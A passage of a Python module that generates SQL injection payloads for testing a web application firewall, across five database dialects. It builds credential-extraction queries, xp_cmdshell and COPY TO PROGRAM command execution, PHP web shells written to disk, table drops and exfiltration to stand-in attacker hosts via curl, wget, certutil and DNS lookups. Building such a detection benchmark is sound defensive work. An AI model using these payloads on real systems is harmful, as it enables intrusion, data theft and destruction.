"""Labelled attack and benign requests for the detection evaluation, made by this
project's own generators from a seed.

Attacks: for each class, payloads are built from that class's grammar (the syntax
the attack needs, with varied names, numbers, spacing, case and obfuscation), then
encoded (plain, base64, base64 without padding, double URL encoding, JavaScript
unicode escapes, XML entities) and placed (query, path, custom header, User-Agent,
cookie, URL-encoded form, multipart form, JSON body, nested JSON, XML body, SOAP
body, GraphQL argument, raw text body). An encoded payload is what an application
that decodes that encoding receives; the WAF must see through it.

Benign: what real users send: prose in several languages (including words that
look like SQL or shell), forum posts that quote code (shell, PowerShell, Rust,
JavaScript, Python, nginx configuration, SQL), Markdown, REST API traffic with
every method, GraphQL queries, uploads, `data:` URIs, URLs in parameters, e-mail
addresses and names with apostrophes.

No payload here comes from a public WAF test tool or payload collection: each is
written from the syntax of the component it attacks.
"""

import base64
import gzip
import json
import random
import re
import struct
import urllib.parse

# --------------------------------------------------------------------------------
# Attack grammars
#
# Each generator picks a technique by weight and fills it in from the syntax of the
# component it attacks: the SQL dialect, the HTML parser, the shell, the path and
# URL parsers, the template engine, the query language, the serialization format.
# Names, numbers, hosts, spacing, case and the application context the payload
# breaks out of (a quote, a parenthesis, a tag, an attribute, a string) all vary,
# and every choice comes from the `random.Random` passed in.


def _pick(r, *options):
    """One of `options`, (weight, value) pairs, chosen by weight; a callable value
    is called, so that only the chosen alternative is built."""
    total = sum(w for w, _ in options)
    x = r.random() * total
    v = options[-1][1]
    for w, o in options:
        x -= w
        if x < 0:
            v = o
            break
    return v() if callable(v) else v


_SYL = ["ka", "lo", "mi", "ne", "ru", "ta", "vo", "xe", "zu", "qi", "po", "da", "fi", "gh", "jo", "sy", "wa", "be",
        "tr", "st", "om", "el"]


def _ident(r, lo=1, hi=3):
    """A random identifier: a table, entity, file or variable name."""
    s = "".join(r.choice(_SYL) for _ in range(r.randint(lo, hi)))
    return s + str(r.randint(0, 99)) if r.random() < 0.3 else s


def _q(r):
    return r.choice(["'", '"', "'", "')", "\")"])


def _n(r):
    return str(r.randint(1, 999))


def n_of(r):
    return str(r.randint(1, 99999))


def _word(r):
    if r.random() < 0.2:
        return _ident(r)
    return r.choice(["admin", "user", "guest", "root", "test", "alice", "bob", "data", "item", "acct", "administrator",
                     "support", "jdoe", "manager", "demo", "sa", "operator", "web"])


def _table(r):
    if r.random() < 0.15:
        return _ident(r, 1, 2) + r.choice(["", "s", "_tbl", "_data"])
    return r.choice(["users", "accounts", "members", "passwords", "customers", "orders", "admin_users", "credentials",
                     "tbl_users", "logins", "employees", "wp_users", "sessions", "api_keys", "staff"])


def _col(r):
    return r.choice(["password", "passwd", "username", "email", "hash", "secret", "token", "ssn", "pass", "pwd",
                     "user_pass", "api_key", "credit_card", "login", "password_hash", "session_id"])


def _ip_public(r):
    a = r.choice([23, 31, 37, 45, 51, 62, 77, 81, 89, 91, 93, 104, 141, 146, 151, 159, 176, 178, 185, 193, 195, 203, 212])
    return f"{a}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"


_ATTACKER_DOMAINS = ["evil.example", "attacker.test", "exfil.invalid", "oast.example", "c2.example.net",
                     "collab.attacker.test", "pwn.example.org", "cb.evil.example"]


def _host(r):
    """A host the attacker controls: a name (sometimes with a random label) or a public address."""
    x = r.random()
    if x < 0.4:
        return r.choice(_ATTACKER_DOMAINS)
    if x < 0.8:
        return f"{_ident(r)}.{r.choice(_ATTACKER_DOMAINS)}"
    return _ip_public(r)


def _dom(r):
    """A DNS name the attacker controls (lookups of names under it reach the attacker)."""
    return _pick(r, (1, lambda: r.choice(_ATTACKER_DOMAINS)), (1, lambda: f"{_ident(r)}.{r.choice(_ATTACKER_DOMAINS)}"))


def _port(r):
    return r.choice([4444, 443, 8080, 1337, 9001, 53, 80, 8443, 31337, r.randint(1024, 65000)])


def _case(r, s):
    """Random letter case, as payloads vary it."""
    if r.random() < 0.6:
        return s
    return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in s)


def _mixcase(r, s):
    return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in s)


def _sp(r, s):
    """SQL white space replaced by comments or plus signs, sometimes."""
    x = r.random()
    if x < 0.7:
        return s
    if x < 0.85:
        return s.replace(" ", "/**/")
    return s.replace(" ", "\t")


def _b64(s):
    return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()


def _unix_cmd(r, host=None):
    """A shell command an attacker runs first: reading, proving execution, calling out."""
    host = host or _host(r)
    return _pick(r, (3, "id"), (2, "whoami"), (1.5, "uname -a"), (2, "cat /etc/passwd"), (1, "ls -la /"),
                 (1, lambda: f"sleep {r.randint(3, 15)}"), (1, lambda: f"nslookup {_ident(r)}.{_dom(r)}"),
                 (1, lambda: f"curl -s http://{host}/{_ident(r)}"), (1, lambda: f"wget -q -O- http://{host}/{_ident(r)}.sh"),
                 (0.7, "cat /proc/self/environ"), (0.7, "env"), (0.5, lambda: f"ping -c {r.randint(1, 5)} {host}"),
                 (0.5, "hostname"), (0.5, lambda: f"touch /tmp/{_ident(r)}"), (0.4, "cat /etc/shadow"),
                 (0.4, "ps aux"))


def _win_cmd(r, host=None):
    """A Windows command (cmd.exe syntax) without quotes."""
    host = host or _host(r)
    return _pick(r, (3, "whoami"), (1, "whoami /priv"), (1.5, "ipconfig /all"), (1, "systeminfo"), (1.5, "net user"),
                 (1, r"type C:\Windows\win.ini"), (1, r"dir C:\Users"), (1, "calc.exe"), (0.7, "tasklist"),
                 (0.7, lambda: f"nslookup {_ident(r)}.{_dom(r)}"), (0.7, lambda: f"ping -n {r.randint(2, 9)} {host}"),
                 (0.7, lambda: f"certutil -urlcache -split -f http://{host}/{_ident(r)}.exe %TEMP%\\{_ident(r)}.exe"),
                 (0.5, "net localgroup administrators"), (0.4, "hostname"))


# SQL: MySQL/MariaDB, PostgreSQL, Microsoft SQL Server, Oracle, SQLite

_SQL_KW = frozenset("""select union all distinct from where and or not null order by group having limit offset sleep
benchmark if case when then else end cast convert as int integer char chr concat concat_ws substring substr mid ascii
ord length char_length len waitfor delay exec execute drop table insert into values update set like in between exists
dual top xor database version extractvalue updatexml rand floor count load_file outfile declare varchar true is
pg_sleep unicode iif rownum regexp rlike hex upper lower randomblob numeric text group_concat string_agg
current_user system_user session_user schema db_name user_name listagg within nvarchar""".split())

_SQL_WS = {
    "mysql": ["/**/", "\t", "\n", "\x0b", "\x0c", "\r\n", "/*{i}*/", "  ", "#{i}\n", "-- {i}\n"],
    "pg": ["/**/", "\t", "\n", "\r", "\x0c", "/*{i}*/", "--{i}\n"],
    "mssql": ["/**/", "\t", "\n", "\r\n", "/*{i}*/", "--{i}\n"],
    "oracle": ["/**/", "\t", "\n", "\r", "/*{i}*/", "--{i}\n"],
    "sqlite": ["/**/", "\t", "\n", "\x0c", "\r", "/*{i}*/", "--{i}\n"],
}

_SQL_SUB = {"mysql": ["SUBSTRING", "SUBSTR", "MID"], "pg": ["SUBSTR", "SUBSTRING"], "mssql": ["SUBSTRING"],
            "oracle": ["SUBSTR"], "sqlite": ["substr"]}
_SQL_ASC = {"mysql": ["ASCII", "ORD"], "pg": ["ASCII"], "mssql": ["ASCII", "UNICODE"], "oracle": ["ASCII"],
            "sqlite": ["unicode"]}
_SQL_LEN = {"mysql": ["LENGTH", "CHAR_LENGTH"], "pg": ["LENGTH"], "mssql": ["LEN", "DATALENGTH"], "oracle": ["LENGTH"],
            "sqlite": ["length"]}


def _sql_lit(r, s, d):
    """A string literal for `s` in dialect `d`: quoted, or written without quotes."""
    if r.random() < 0.72:
        return "'" + s.replace("'", "''") + "'"
    codes = [ord(ch) for ch in s]
    if d == "mysql":
        return _pick(r, (2, "0x" + s.encode().hex()), (1, "CHAR(" + ",".join(map(str, codes)) + ")"),
                     (0.5, "x'" + s.encode().hex() + "'"), (0.5, "_latin1'" + s + "'"))
    if d == "mssql":
        return _pick(r, (2, "(" + "+".join(f"CHAR({c})" for c in codes) + ")"), (1, "N'" + s + "'"))
    if d == "pg":
        return _pick(r, (1.5, "$$" + s + "$$"), (1, "(" + "||".join(f"CHR({c})" for c in codes) + ")"),
                     (1, "E'" + "".join(f"\\x{c:02x}" for c in codes) + "'"), (0.5, f"$q${s}$q$"))
    if d == "oracle":
        return _pick(r, (1, "q'[" + s + "]'"), (1, "(" + "||".join(f"CHR({c})" for c in codes) + ")"),
                     (0.5, "q'{" + s + "}'"))
    return _pick(r, (1, "char(" + ",".join(map(str, codes)) + ")"), (1, "CAST(X'" + s.encode().hex() + "' AS TEXT)"))


def _sql_secret(r, d, t, c):
    """A scalar expression whose value the attacker wants: a row, a catalog entry, the version, the user."""
    k = r.randint(0, 9)
    lit = lambda s: _sql_lit(r, s, d)  # noqa: E731
    if d == "mysql":
        return _pick(r, (2, f"(SELECT {c} FROM {t} LIMIT {k},1)"), (1, f"(SELECT GROUP_CONCAT({c}) FROM {t})"),
                     (1.5, f"(SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT {k},1)"),
                     (1, lambda: f"(SELECT GROUP_CONCAT(column_name) FROM information_schema.columns WHERE table_name={lit(t)})"),
                     (1, "user()"), (1, "@@version"), (1, "database()"), (0.5, "current_user()"), (0.4, "@@datadir"),
                     (0.4, "@@hostname"), (0.5, "(SELECT authentication_string FROM mysql.user LIMIT 1)"),
                     (0.5, "(SELECT GROUP_CONCAT(schema_name) FROM information_schema.schemata)"),
                     (0.3, "(SELECT CONCAT(user,0x3a,host) FROM mysql.user LIMIT 1)"))
    if d == "pg":
        return _pick(r, (2, f"(SELECT {c} FROM {t} LIMIT 1 OFFSET {k})"), (1, f"(SELECT string_agg({c},',') FROM {t})"),
                     (1.5, "(SELECT string_agg(tablename,',') FROM pg_tables WHERE schemaname='public')"),
                     (1, lambda: f"(SELECT string_agg(column_name,':') FROM information_schema.columns WHERE table_name={lit(t)})"),
                     (1, "current_user"), (1, "version()"), (1, "current_database()"),
                     (0.5, "(SELECT passwd FROM pg_shadow LIMIT 1)"), (0.5, "(SELECT usename FROM pg_user LIMIT 1)"),
                     (0.3, "inet_server_addr()::text"), (0.3, "current_setting('data_directory')"))
    if d == "mssql":
        return _pick(r, (2, f"(SELECT TOP 1 {c} FROM {t})"),
                     (1, f"(SELECT TOP 1 {c} FROM {t} WHERE {c} NOT IN (SELECT TOP {k} {c} FROM {t}))"),
                     (1.5, "(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')"),
                     (1, "(SELECT STRING_AGG(name,',') FROM sys.tables)"),
                     (1, "(SELECT TOP 1 name FROM master..sysdatabases)"), (1, "@@version"), (1, "DB_NAME()"),
                     (1, "SYSTEM_USER"), (0.6, "USER_NAME()"), (0.5, "HOST_NAME()"), (0.5, "@@SERVERNAME"),
                     (0.5, "(SELECT name+',' FROM sys.sql_logins FOR XML PATH(''))"),
                     (0.5, lambda: f"(SELECT TOP 1 column_name FROM information_schema.columns WHERE table_name={lit(t)})"))
    if d == "oracle":
        return _pick(r, (2, f"(SELECT {c} FROM {t} WHERE ROWNUM=1)"),
                     (1.5, "(SELECT table_name FROM all_tables WHERE ROWNUM=1)"), (1, "(SELECT user FROM dual)"),
                     (1, "(SELECT banner FROM v$version WHERE ROWNUM=1)"), (0.7, "SYS_CONTEXT('USERENV','CURRENT_USER')"),
                     (0.6, "(SELECT global_name FROM global_name)"),
                     (0.6, lambda: "(SELECT LISTAGG(column_name,',') WITHIN GROUP (ORDER BY column_name) FROM all_tab_columns"
                                   f" WHERE table_name={lit(t.upper())})"),
                     (0.5, "(SELECT ora_database_name FROM dual)"),
                     (0.4, f"(SELECT username FROM all_users WHERE ROWNUM<={k + 1} MINUS SELECT username FROM all_users WHERE ROWNUM<={k})"))
    return _pick(r, (2, f"(SELECT {c} FROM {t} LIMIT 1 OFFSET {k})"),
                 (1.5, "(SELECT group_concat(name) FROM sqlite_master WHERE type='table')"),
                 (1, lambda: f"(SELECT sql FROM sqlite_master WHERE tbl_name={lit(t)})"), (1, "sqlite_version()"),
                 (0.7, lambda: f"(SELECT group_concat(name) FROM pragma_table_info({lit(t)}))"),
                 (0.5, f"(SELECT group_concat({c},char(10)) FROM {t})"))


def _sql_true(r, d):
    """An always-true condition."""
    k, a = r.randint(0, 99), r.randint(0, 50)
    b = a + r.randint(1, 50)
    w = r.choice(["a", "x", "1", _ident(r, 1, 1), "abc"])
    return _pick(r, (4, f"{k}={k}"), (2, lambda: f"{_sql_lit(r, w, d)}={_sql_lit(r, w, d)}"), (1, f"{a}<{b}"),
                 (1, f"{b}>{a}"), (0.7, f"{k} BETWEEN {k - 1} AND {k + 1}"), (0.7, f"{k} IN ({a},{k})"),
                 (0.6, lambda: f"{_sql_lit(r, w + 'z', d)} LIKE {_sql_lit(r, w + '%', d)}"), (0.5, f"NOT {a}={b}"),
                 (0.5, f"{a}<>{b}"), (0.4, f"{k} IS NOT NULL"),
                 (0.5 if d in ("mysql", "sqlite") else 0, str(r.randint(1, 9))),
                 (0.5 if d in ("mysql", "pg", "sqlite") else 0, "TRUE"),
                 (0.3, "EXISTS(SELECT 1 FROM dual)" if d == "oracle" else "EXISTS(SELECT 1)"))


def _sql_cond(r, d, t, c):
    """A condition whose truth leaks one bit of a secret (boolean-blind inference)."""
    s = _sql_secret(r, d, t, c)
    i, n = r.randint(1, 24), r.randint(48, 122)
    sub, asc, ln = r.choice(_SQL_SUB[d]), r.choice(_SQL_ASC[d]), r.choice(_SQL_LEN[d])
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789_")
    op = r.choice([">", "<", "=", ">=", "<>"])
    return _pick(r, (3, f"{asc}({sub}({s},{i},1)){op}{n}"), (1.5, lambda: f"{sub}({s},{i},1)={_sql_lit(r, ch, d)}"),
                 (1.5, f"{ln}({s}){op}{r.randint(1, 40)}"), (1, f"(SELECT COUNT(*) FROM {t}){op}{r.randint(0, 50)}"),
                 (1, lambda: f"{s} LIKE {_sql_lit(r, ch + '%', d)}"),
                 (0.7 if d == "mysql" else 0, lambda: f"{s} {r.choice(['REGEXP', 'RLIKE'])} '^[{ch}-z]'"),
                 (0.5 if d == "pg" else 0, f"{s} ~ '^{ch}'"),
                 (0.6, lambda: f"EXISTS(SELECT 1 FROM {t} WHERE {c} LIKE {_sql_lit(r, ch + '%', d)})"),
                 (0.5, lambda: f"{asc}({sub}({s},{i},1)) BETWEEN {n} AND {n + r.randint(1, 20)}"))


def _sql_ifcond(r, d, cond):
    """`cond` wrapped as a conditional expression that is true/false."""
    return _pick(r, (2, cond),
                 (1, f"(CASE WHEN ({cond}) THEN 1 ELSE 0 END)=1"),
                 (1 if d == "mysql" else 0, f"IF({cond},1,0)"),
                 (0.7 if d == "mssql" else 0, f"1=IIF({cond},1,0)"),
                 (0.7 if d in ("pg", "mssql") else 0, f"1=(SELECT CASE WHEN ({cond}) THEN 1 ELSE 1/0 END)"),
                 (0.7 if d == "oracle" else 0, f"1=(SELECT CASE WHEN ({cond}) THEN 1 ELSE TO_NUMBER(CHR(120)) END FROM dual)"))


def _sql_error(r, d, t, c):
    """A condition whose evaluation raises an error message that carries a secret."""
    s = _sql_secret(r, d, t, c)
    k = r.randint(1, 99)
    if d == "mysql":
        tl = r.choice(["0x7e", "0x3a", "'~'", "CHAR(126)", "0x5c"])
        return _pick(r, (3, f"EXTRACTVALUE({k},CONCAT({tl},{s}))"), (3, f"UPDATEXML({k},CONCAT({tl},{s},{tl}),{k})"),
                     (2, f"(SELECT {k} FROM(SELECT COUNT(*),CONCAT({s},FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"),
                     (0.7, f"EXP(~(SELECT*FROM(SELECT {s})x))"), (0.7, f"GTID_SUBSET(CONCAT({tl},{s}),{k})"),
                     (0.5, f"ST_LatFromGeoHash({s})"))
    if d == "pg":
        return _pick(r, (3, f"{k}=CAST({s} AS int)"), (2, f"{k}=({s})::int"),
                     (1, f"CAST(CHR(126)||{s} AS numeric)={k}"), (1, f"{k}=CAST(({s})::text AS integer)"))
    if d == "mssql":
        return _pick(r, (3, f"{k}=CONVERT(int,{s})"), (2, f"{k}=CAST({s} AS int)"), (1, f"{k}={s}"),
                     (1, f"{k} IN (SELECT {s})"), (1, f"{k}=CONVERT(int,CHAR(58)+{s}+CHAR(58))"))
    if d == "oracle":
        return _pick(r, (2, f"{k}=CTXSYS.DRITHSX.SN({k},{s})"), (2, f"{k}=UTL_INADDR.GET_HOST_NAME({s})"),
                     (2, f"{k}=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||{s}||CHR(62))) FROM dual)"),
                     (1, f"{k}=ORDSYS.ORD_DICOM.GETMAPPINGXPATH({s},user,user)"),
                     (1, f"{k}=DBMS_UTILITY.SQLID_TO_SQLHASH({s})"))
    return None


def _sql_delay(r, d, t, c):
    """(kind, text): a condition ("cond") or a statement ("stmt") that makes the database wait."""
    k = r.randint(2, 30)
    cond = lambda: _sql_cond(r, d, t, c)  # noqa: E731
    if d == "mysql":
        return "cond", _pick(r, (3, f"SLEEP({k})"), (2, f"(SELECT*FROM(SELECT(SLEEP({k})))x)"),
                             (2, lambda: f"IF({cond()},SLEEP({k}),0)"),
                             (1, lambda: f"{r.randint(1, 9)}=BENCHMARK({r.randint(2, 50)}000000,{r.choice(['MD5', 'SHA1'])}({_sql_lit(r, _ident(r), d)}))"),
                             (1, lambda: f"(SELECT {k} FROM (SELECT SLEEP({k}))x WHERE {cond()})"),
                             (1, lambda: f"(SELECT CASE WHEN {cond()} THEN SLEEP({k}) ELSE 0 END)"),
                             (0.5, f"0 XOR SLEEP({k})"))
    if d == "pg":
        return _pick(r, (2, ("cond", f"{k}=(SELECT {k} FROM pg_sleep({k}))")),
                     (1, lambda: ("cond", f"1=(SELECT CASE WHEN ({cond()}) THEN (SELECT 1 FROM pg_sleep({k})) ELSE 1 END)")),
                     (2, ("stmt", f"SELECT pg_sleep({k})")),
                     (1, lambda: ("stmt", f"SELECT CASE WHEN ({cond()}) THEN pg_sleep({k}) ELSE pg_sleep(0) END")),
                     (0.7, ("stmt", f"SELECT pg_sleep_for('{k} seconds')")),
                     (0.7, ("cond", f"{r.randint(1, 9)}<(SELECT COUNT(*) FROM generate_series(1,{r.randint(10, 90)}000000))")))
    if d == "mssql":
        return _pick(r, (3, ("stmt", f"WAITFOR DELAY '0:0:{k}'")), (1, ("stmt", f"WAITFOR DELAY '00:00:{k:02d}'")),
                     (2, lambda: ("stmt", f"IF ({cond()}) WAITFOR DELAY '0:0:{k}'")),
                     (1, lambda: ("stmt", f"IF {cond()} WAITFOR DELAY '0:0:{k}' ELSE WAITFOR DELAY '0:0:0'")),
                     (0.7, ("cond", f"{r.randint(1, 9)}<(SELECT COUNT(*) FROM sys.all_objects a,sys.all_objects b,sys.all_objects c)")))
    if d == "oracle":
        return "cond", _pick(r, (3, lambda: f"{r.randint(0, 1)}=DBMS_PIPE.RECEIVE_MESSAGE({_sql_lit(r, _ident(r), d)},{k})"),
                             (2, lambda: f"1=(CASE WHEN ({cond()}) THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR({r.randint(65, 90)}),{k}) ELSE 1 END)"),
                             (1, "(SELECT COUNT(*) FROM all_users t1,all_users t2,all_users t3,all_users t4)>0"))
    return "cond", _pick(r, (3, f"{r.randint(0, 1)}=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({r.randint(1, 9)}00000000/2))))"),
                         (1, lambda: f"1=(CASE WHEN ({cond()}) THEN LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({r.randint(1, 9)}00000000/2)))) ELSE 1 END)"),
                         (1, f"0<(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT {r.randint(10, 90)}000000) SELECT COUNT(*) FROM c)"))


def _sql_stmt(r, d, t, c):
    """A statement for stacked-query injection (the driver runs several statements)."""
    u, p, x = _ident(r), _ident(r) + str(r.randint(10, 999)), _ident(r)
    lit = lambda s: _sql_lit(r, s, d)  # noqa: E731
    php = r.choice(["<?php system($_GET[c]);?>", "<?php eval($_POST[1]);?>", "<?=`$_GET[0]`?>", "<?php passthru($_REQUEST[x]);?>"])
    common = [(2, f"DROP TABLE {t}"), (1, lambda: f"INSERT INTO {t}({r.choice(['username', 'login', 'email'])},{c}) VALUES({lit(u)},{lit(p)})"),
              (1.5, lambda: f"UPDATE {t} SET {c}={lit(p)} WHERE {r.choice(['username', 'login', 'name'])}={lit(r.choice(['admin', 'root', 'administrator']))}"),
              (0.5, f"DELETE FROM {t}")]
    if d == "mysql":
        return _pick(r, *common, (1, f"SELECT SLEEP({r.randint(2, 20)})"),
                     (1, f"CREATE USER '{u}'@'%' IDENTIFIED BY '{p}'"), (1, f"GRANT ALL PRIVILEGES ON *.* TO '{u}'@'%'"),
                     (1, f"SELECT '{php}' INTO OUTFILE '/var/www/html/{x}.php'"),
                     (0.7, f"SET GLOBAL general_log_file='/var/www/html/{x}.php'"), (0.3, "SHUTDOWN"))
    if d == "pg":
        cmd = _unix_cmd(r)
        return _pick(r, *common, (2, f"COPY (SELECT '') TO PROGRAM '{cmd}'"),
                     (1.5, f"CREATE TABLE {x}(o text);COPY {x} FROM PROGRAM '{cmd}';SELECT * FROM {x}"),
                     (1, f"ALTER ROLE {u} WITH SUPERUSER"), (1, f"CREATE ROLE {u} LOGIN SUPERUSER PASSWORD '{p}'"),
                     (1, f"CREATE OR REPLACE FUNCTION {x}(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT"),
                     (0.7, "SELECT lo_import('/etc/passwd')"), (0.7, f"COPY {t} TO '/tmp/{x}.csv'"),
                     (0.7, "SELECT pg_read_file('/etc/passwd')"))
    if d == "mssql":
        w = _win_cmd(r)
        shell = "EXEC master..xp_cmdshell '" + w + "'"
        return _pick(r, *common, (2, f"EXEC xp_cmdshell '{w}'"), (1.5, shell), (1, f"EXEC master.dbo.xp_cmdshell '{w}'"),
                     (1, "EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE"),
                     (1, lambda: f"DECLARE @{x} VARCHAR(8000);SET @{x}=0x{shell.encode().hex()};EXEC(@{x})"),
                     (1, f"EXEC('xp_cm'+'dshell ''{w}''')"),
                     (0.7, f"CREATE LOGIN {u} WITH PASSWORD='{p}';EXEC sp_addsrvrolemember '{u}','sysadmin'"),
                     (0.3, "SHUTDOWN WITH NOWAIT"))
    return _pick(r, *common,
                 (1.5, f"ATTACH DATABASE '/var/www/html/{x}.php' AS {x};CREATE TABLE {x}.p(d text);"
                       f"INSERT INTO {x}.p(d) VALUES('{php.replace(chr(39), chr(39) * 2)}')"),
                 (0.5, f"SELECT load_extension('/tmp/{x}.so')"))


def _sql_oob(r, d, t, c):
    """(kind, text): a condition or statement that sends the secret out over DNS, SMB or HTTP."""
    s, host, x = _sql_secret(r, d, t, c), _dom(r), _ident(r)
    if d == "mysql":
        return "cond", _pick(r, (2, f"LOAD_FILE(CONCAT('\\\\\\\\',{s},'.{host}\\\\{x}')) IS NULL"),
                             (1, f"LOAD_FILE(CONCAT(0x5c5c,{s},0x2e,0x{host.encode().hex()},0x5c,0x{x.encode().hex()})) IS NULL"),
                             (1, f"(SELECT LOAD_FILE(CONCAT('\\\\\\\\',{s},'.{host}\\\\a')))IS NULL"))
    if d == "mssql":
        v = _ident(r)
        return "stmt", _pick(r, (2, f"EXEC master..xp_dirtree '\\\\{host}\\{x}'"), (1, f"EXEC master..xp_fileexist '\\\\{host}\\{x}\\a'"),
                             (1, f"EXEC master..xp_subdirs '\\\\{host}\\{x}'"),
                             (2, f"DECLARE @{v} VARCHAR(1024);SET @{v}={s};EXEC('master..xp_dirtree ''\\\\'+@{v}+'.{host}\\{x}''')"),
                             (0.7, f"SELECT * FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;Address={host};uid=sa;pwd={x}','SELECT 1')"))
    if d == "oracle":
        e = _ident(r, 1, 1)
        return "cond", _pick(r, (2, f"UTL_HTTP.REQUEST('http://{host}/'||{s}) IS NOT NULL"),
                             (2, f"UTL_INADDR.GET_HOST_ADDRESS({s}||'.{host}') IS NOT NULL"),
                             (1, f"HTTPURITYPE('http://{host}/'||{s}).GETCLOB() IS NOT NULL"),
                             (1, f"DBMS_LDAP.INIT({s}||'.{host}',389) IS NOT NULL"),
                             (1.5, f"EXTRACTVALUE(XMLTYPE('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE {x} [ <!ENTITY % {e} SYSTEM \"http://{host}/'||{s}||'\"> %{e};]>'),'/l') IS NOT NULL"))
    if d == "pg":
        return "stmt", _pick(r, (2, f"COPY (SELECT '') TO PROGRAM 'nslookup {x}.{host}'"),
                             (1.5, f"DO $_$BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''nslookup '||{s}||'.{host}''';END$_$"),
                             (1, f"SELECT dblink_connect('host={host} user={x} password={x} dbname={x}')"),
                             (1, f"CREATE EXTENSION IF NOT EXISTS dblink;SELECT dblink_connect('host='||{s}||'.{host} user=a dbname=b')"))
    return "cond", f"load_extension('\\\\{host}\\{x}\\{x}.dll') IS NULL"


def _sql_style(r, body, d):
    """Keyword case, white space and (MySQL) versioned comments varied the way each
    dialect still accepts; string literals are left alone."""
    parts = re.split(r"('(?:[^']|'')*')", body)
    case = _pick(r, (5, None), (2, "upper"), (2, "lower"), (2, "mixed"))
    ws = None
    if r.random() < 0.35:
        alts = _SQL_WS[d]
        mode = r.random()
        one = r.choice(alts) if mode < 0.6 else None
        ws = (lambda: one.format(i=_ident(r, 1, 1))) if one else (lambda: r.choice(alts).format(i=_ident(r, 1, 1)))
    tight = r.random() < 0.2
    versioned = d == "mysql" and r.random() < 0.15
    out = []
    for i, p in enumerate(parts):
        if i % 2 == 1:
            out.append(p)
            continue
        if case:
            def kw(m):
                w = m.group(0)
                if w.lower() not in _SQL_KW:
                    return w
                return w.upper() if case == "upper" else w.lower() if case == "lower" else _mixcase(r, w)
            p = re.sub(r"[A-Za-z_]+", kw, p)
        if versioned:
            ver = r.choice(["", str(r.randint(32302, 50799)), "50000", "12345"])
            p = re.sub(r"\b(UNION|SELECT|union|select|FROM|from)\b", lambda m: f"/*!{ver}{m.group(0)}*/", p)
        if tight:
            p = re.sub(r" *([=,()]) *", r"\1", p)
        if ws:
            p = re.sub(" ", lambda m: ws(), p)
        out.append(p)
    return "".join(out)


def _sql_end(r, d):
    """A comment that cuts off the rest of the application's statement."""
    if d == "mysql":
        return _pick(r, (4, "-- -"), (3, "#"), (1, "-- "), (1, lambda: f"-- {_ident(r)}"))
    if d == "sqlite":
        return _pick(r, (3, "--"), (2, "-- -"), (1, "/*"), (1, ";--"))
    if d == "oracle":
        return _pick(r, (3, "--"), (2, "-- -"), (0.5, lambda: f"--{_ident(r)}"))
    return _pick(r, (3, "--"), (2, "-- -"), (1.5, ";--"), (0.5, lambda: f"--{_ident(r)}"))


def sql(r):
    d = _pick(r, (4, "mysql"), (2.5, "pg"), (2.5, "mssql"), (1.5, "oracle"), (1.5, "sqlite"))
    t, c = _table(r), _col(r)
    q = '"' if d in ("mysql", "sqlite") and r.random() < 0.25 else "'"
    ctx = _pick(r, (3, "str"), (2.5, "num"), (1, "str-paren"), (0.5, "num-paren"), (0.4, "like"))
    depth = r.randint(1, 2)
    v = r.choice([_word(r), _n(r), "", _ident(r)]) if ctx.startswith("str") else r.choice([_n(r), _n(r), "-" + _n(r), "0"])
    pre = {"str": v + q, "str-paren": v + q + ")" * depth, "num": v, "num-paren": v + ")" * depth,
           "like": r.choice(["%", v + "%", ""]) + q}[ctx]

    def balance():
        """The text that leaves the application's own tail of the statement valid."""
        w = r.choice([_word(r), _n(r), _ident(r, 1, 1)])
        if ctx == "str":
            return _pick(r, (3, f" AND {q}{w}{q}={q}{w}"), (1, f" OR {q}{w}{q}={q}"), (1, f" AND {q}{w}{q} LIKE {q}{w}"))
        if ctx == "str-paren":
            return f" AND " + "(" * depth + f"{q}{w}{q}={q}{w}"
        if ctx == "num-paren":
            k = r.randint(1, 99)
            return " AND " + "(" * depth + f"{k}={k}"
        if ctx == "like":
            return f" AND {q}%{q} LIKE {q}%"
        return ""

    def finish(body, stmt=False):
        """Styled body after the context prefix, then a comment or a balancing tail."""
        body = pre + _sql_style(r, body, d)
        if stmt:
            return body + _sql_end(r, d)
        if ctx == "num":
            return body + (_sql_end(r, d) if r.random() < 0.5 else "")
        return body + (_sql_end(r, d) if r.random() < 0.6 else balance())

    conj_or = "OR" if d not in ("mysql",) or r.random() < 0.75 else "||"
    tech = _pick(r, (3, "taut"), (0.8, "trunc" if ctx.startswith("str") else "taut"), (3, "union"), (2, "error" if d != "sqlite" else "bool"), (2, "bool"),
                 (2.5, "time"), (1.5, "stacked" if d != "oracle" else "time"), (1, "oob"), (0.8, "order"),
                 (0.7, "inline" if ctx == "str" else "taut"), (0.5, "update" if ctx == "str" else "union"))

    if tech == "taut":
        if d == "mysql" and ctx == "str" and r.random() < 0.2:
            return pre[:-1] + r.choice([f"{q}={q}", f"{q}-0-{q}", f"{q}*{q}", f"{q}^0^{q}", f"{q}+0+{q}"])
        cond = _sql_true(r, d)
        body = f" {conj_or} {cond}" if conj_or == "OR" else f"{conj_or}{cond}"
        if r.random() < 0.15:
            body += f" {r.choice(['LIMIT 1', 'ORDER BY 1'])}" if d in ("mysql", "pg", "sqlite") else ""
            return pre + _sql_style(r, body, d) + _sql_end(r, d)
        return finish(body)
    if tech == "trunc":
        # a known account name, and the rest of the statement (the password check) commented out
        user = r.choice(["admin", "administrator", "root", "sa", "superuser", "webmaster", _word(r)])
        close = {"str": q, "str-paren": q + ")" * depth, "like": q}.get(ctx, q)
        return user + close + _sql_end(r, d)
    if tech in ("error", "bool"):
        if tech == "error":
            e = _sql_error(r, d, t, c)
